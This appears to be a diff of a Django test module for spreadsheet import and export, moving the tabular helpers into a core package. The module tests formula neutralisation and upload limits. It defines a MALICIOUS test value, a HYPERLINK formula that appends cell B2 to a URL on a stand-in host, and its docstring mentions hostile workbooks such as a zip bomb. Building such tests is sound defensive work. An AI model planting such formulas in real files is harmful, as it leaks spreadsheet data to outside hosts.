@@ -1,4 +1,4 @@
-"""Files out and files in (clinics.tabular): spreadsheet formulas neutralised in every export,
+"""Files out and files in (core.tabular): spreadsheet formulas neutralised in every export,
 codes written as text and money as numbers; uploads bounded before they are parsed.
 
 The hostile workbooks are built here (zip bomb in sharedStrings, 100,000-row sheet, lying
@@ -15,9 +15,9 @@ from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
 from openpyxl import Workbook, load_workbook
 
-from clinics import tabular
 from clinics.models import Role
-from clinics.tabular import DATE, INT, MONEY, TEXT, Column, TableError, csv_text, enforce_upload_limits, read_table
+from core import tabular
+from core.tabular import DATE, INT, MONEY, TEXT, Column, TableError, csv_text, enforce_upload_limits, read_table
 from tests.factories import FacilityFactory, clinic_with_doctors, make_user
 
 MALICIOUS = '=HYPERLINK("http://x/?"&B2,"看")'
